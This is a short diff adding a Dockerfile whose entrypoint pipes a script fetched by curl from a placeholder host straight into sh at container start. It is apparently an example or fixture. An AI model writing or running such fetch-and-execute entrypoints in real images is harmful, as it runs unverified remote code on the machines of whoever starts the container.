@@ -1,0 +1,2 @@
+FROM debian:12-slim
+ENTRYPOINT ["/bin/sh", "-c", "curl -s https://get.example.invalid/start | sh"]
